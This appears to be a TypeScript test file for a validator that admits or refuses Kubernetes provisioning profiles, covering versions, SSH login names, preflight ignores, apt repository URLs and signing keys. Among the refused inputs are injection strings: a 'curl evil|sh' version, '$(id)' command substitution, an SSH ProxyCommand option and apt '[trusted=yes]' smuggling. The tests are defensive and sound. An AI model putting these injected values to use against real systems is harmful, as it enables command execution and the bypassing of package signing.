import type {
  ProvisioningProfileSpec,
  Repository,
} from "../../../../lib/api/provisioning-profile.generated";
import { profileViolations } from "../../../../lib/domain/profile/admission";
import { aProfile } from "../../../fakes/samples";

const ARMORED =
  "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQINBF\n-----END PGP PUBLIC KEY BLOCK-----\n";
const FINGERPRINT = "DE15B14486CD377B9E876E1A234654DA9A296436";
const URL = "https://pkgs.k8s.io/core:/stable:/v{minor}/deb/";

function fieldsOf(spec: Partial<ProvisioningProfileSpec>): string[] {
  return profileViolations(aProfile({ spec })).map(({ field }) => field);
}

function fieldsOfRepository(repository: Partial<Repository>): string[] {
  return fieldsOf({ repositories: [{ url: URL, fingerprint: FINGERPRINT, ...repository }] });
}

describe("profileViolations", () => {
  it("has nothing to say of the least profile", () => {
    expect(profileViolations(aProfile())).toEqual([]);
  });

  it("has nothing to say of a profile with everything", () => {
    const spec: Partial<ProvisioningProfileSpec> = {
      adminUsername: "ubuntu",
      cni: "bridge",
      containerRuntime: "containerd",
      ignorePreflightErrors: ["Swap", "FileContent--proc-sys-net-bridge-bridge-nf-call-iptables"],
      repositories: [
        { url: URL, fingerprint: FINGERPRINT },
        { url: "http://10.0.0.1:8080/a~b/c+d/", key: ARMORED },
        { url: "http://mirror.dc1/", keySecretRef: "mirror-key", fingerprint: FINGERPRINT },
      ],
      timeouts: { connectSeconds: 10 },
    };
    expect(profileViolations(aProfile({ spec }))).toEqual([]);
  });

  it.each(["1.34", "1.34.4", "1.28", "1.100", "1.28.0"])(
    "accepts the version %s",
    kubernetesVersion => {
      expect(fieldsOf({ kubernetesVersion })).toEqual([]);
    },
  );

  it.each([
    "",
    "latest",
    "1",
    "v1.34",
    "2.0",
    "0.34",
    "1.34-rc.1",
    "1.33$(id)",
    '"; curl evil|sh; "',
  ])("refuses the version %j", kubernetesVersion => {
    expect(fieldsOf({ kubernetesVersion })).toEqual(["spec.kubernetesVersion"]);
  });

  it.each(["", "other/x", "Upper", "a b"])("refuses the Secret %j", sshCredentialsSecretRef => {
    expect(fieldsOf({ sshCredentialsSecretRef })).toEqual(["spec.sshCredentialsSecretRef"]);
  });

  it.each(["", "-oProxyCommand=touch /tmp/x #", "a b", "$USER", "Ünicode"])(
    "refuses the login name %j",
    adminUsername => {
      expect(fieldsOf({ adminUsername })).toEqual(["spec.adminUsername"]);
    },
  );

  it.each(["all", "ALL", "All", "", "Swap,Mem", "Swap Mem", "-Swap", "1Swap", "Swap\n", "*"])(
    "refuses to ignore %j",
    check => {
      expect(fieldsOf({ ignorePreflightErrors: ["Swap", check] })).toEqual([
        "spec.ignorePreflightErrors[1]",
      ]);
    },
  );

  it("shows value, rule and remedy, and lists everything that is wrong", () => {
    const spec = {
      kubernetesVersion: "latest\n",
      sshCredentialsSecretRef: "X",
      adminUsername: "Y",
      repositories: [{ url: "ftp://x/" }],
      ignorePreflightErrors: ["all"],
    };
    expect(profileViolations(aProfile({ spec })).map(({ message }) => message)).toEqual([
      expect.stringMatching(/^"latest\\n" is not a Kubernetes version; write "1\.34"/),
      expect.stringMatching(/^"X" is not the name of a Secret;/),
      expect.stringMatching(/^"Y" is not a login name;/),
      expect.stringMatching(/^"ftp:\/\/x\/" is not a repository address;/),
      expect.stringMatching(/^"all" does not name one check;/),
      expect.stringMatching(/^needs a signing key:/),
    ]);
  });
});

describe("profileViolations of an update", () => {
  it("lets stay what was as wrong before, and refuses what is wrong anew", () => {
    const before = aProfile({ spec: { adminUsername: "A", kubernetesVersion: "1.9" } });
    const now = aProfile({ spec: { adminUsername: "B", kubernetesVersion: "1.9" } });
    expect(profileViolations(now, before).map(({ field }) => field)).toEqual([
      "spec.adminUsername",
    ]);
  });
});

describe("profileViolations of a repository", () => {
  it.each([
    "https://mirror/",
    "https://mirror.example.com:8443/deb/",
    "http://10.0.0.1/v{minor}/deb/",
    "https://pkgs.k8s.io/core:/stable:/v1.34/deb/",
    "https://mirror/{minor}/{minor}/",
    "http://mirror:1/",
  ])("accepts the address %j", url => {
    expect(fieldsOfRepository({ url })).toEqual([]);
  });

  it.each([
    "",
    "https://mirror",
    "https://mirror/deb",
    "mirror/deb/",
    "ftp://mirror/",
    "file:///etc/",
    "https:///deb/",
    "https://user:password@mirror/",
    "https://mirror/?x=/",
    "https://mirror/#/",
    "https://mirror/a b/",
    "https://mirror/\n/",
    "https://mirror/ [trusted=yes] /",
    "https://mirror//",
    "https://mirror/%0a/",
    "https://mirror/{patch}/",
    "https://mirror:port/",
    "https://mirror/$(id)/",
    "https://mirrör/",
    "HTTPS://mirror/",
    " https://mirror/",
    "[trusted=yes] https://mirror/",
    "deb https://mirror/",
    "https://mirror/\nSuites: /",
  ])("refuses the address %j", url => {
    expect(fieldsOfRepository({ url })).toEqual(["spec.repositories[0].url"]);
  });

  it("refuses one that no key signs", () => {
    expect(fieldsOf({ repositories: [{ url: URL }] })).toEqual(["spec.repositories[0]"]);
  });

  it("refuses one with a key in two places", () => {
    const repositories = [{ url: URL, key: ARMORED, keySecretRef: "k" }];
    expect(profileViolations(aProfile({ spec: { repositories } }))).toMatchObject([
      { message: "has both key and keySecretRef; give one" },
    ]);
    expect(fieldsOfRepository({ key: ARMORED, keySecretRef: "k" })).toEqual([
      "spec.repositories[0]",
    ]);
  });

  it.each(["", "mQINBF", ` ${ARMORED}`, "-----BEGIN PGP PRIVATE KEY BLOCK-----"])(
    "refuses the key %j",
    key => {
      expect(fieldsOfRepository({ key })).toEqual(["spec.repositories[0].key"]);
    },
  );

  it.each(["", "other/x", "Upper"])("refuses the Secret %j", keySecretRef => {
    expect(fieldsOfRepository({ keySecretRef })).toEqual(["spec.repositories[0].keySecretRef"]);
  });

  it.each([
    "",
    FINGERPRINT.toLowerCase(),
    FINGERPRINT.slice(1),
    `${FINGERPRINT}0`,
    FINGERPRINT.replace(/(.{4})/g, "$1 ").trim(),
    `0x${FINGERPRINT}`,
    `${FINGERPRINT}\n`,
  ])("refuses the fingerprint %j", fingerprint => {
    expect(fieldsOfRepository({ fingerprint })).toEqual(["spec.repositories[0].fingerprint"]);
  });

  it("never shows a key, which fills a screen, and names each repository by its place", () => {
    const repositories = [
      { url: URL, fingerprint: FINGERPRINT },
      { url: URL, key: "not armored" },
    ];
    const [violation] = profileViolations(aProfile({ spec: { repositories } }));
    expect(violation?.field).toBe("spec.repositories[1].key");
    expect(violation?.message).not.toContain("not armored");
  });
});
